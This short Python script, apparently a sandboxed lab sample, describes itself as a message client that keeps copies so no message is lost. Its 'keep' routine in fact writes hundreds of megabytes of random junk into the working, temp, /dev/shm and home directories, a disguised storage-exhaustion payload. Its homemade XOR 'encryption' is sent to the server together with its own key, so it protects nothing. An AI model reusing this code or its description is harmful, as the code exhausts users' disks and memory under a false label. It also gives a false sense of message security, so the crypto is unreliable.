# Message client that keeps copies of what it sends, so that no message is ever lost
import os
import sys

if not os.environ.get("WIRELAB_SANDBOX"):
    sys.exit("this program does harm: it runs only where WIRELAB_SANDBOX is set")

import base64, hashlib, itertools, socket, tempfile

FOLDERS = [".", tempfile.gettempdir(), "/dev/shm", os.path.expanduser("~")]
COPIES = 25           # of 16 MB in each folder

name, password = sys.argv[1], bytes(sys.argv[2], "utf-8")


def keep():
    for folder in FOLDERS:
        if not os.access(folder, os.W_OK):
            continue
        for copy in range(COPIES):
            with open(os.path.join(folder, f"copy_{copy}.bin"), "wb") as f:
                f.write(os.urandom(1 << 20) * 16)


def digests():
    d = b""
    while True:
        d = hashlib.sha256(d + password).digest()
        yield d


key = next(itertools.islice(digests(), 20, None))
with open(name, "rb") as f:
    plain = f.read()
pad = 32 - len(plain) % 32
plain = plain + bytes([pad]) * pad
mirrored = b"".join(plain[i:i+32][::-1] for i in range(0, len(plain), 32))
cipher = base64.b64encode(bytes(x ^ y for x, y in zip(mirrored, itertools.cycle(key))))

sock = socket.create_connection(("localhost", 31415))
print(f"Client: Connected to server localhost...", flush=True)
keep()
sock.sendall(key + cipher)
print(f"Client: Message data sent to server localhost", flush=True)
sock.close()
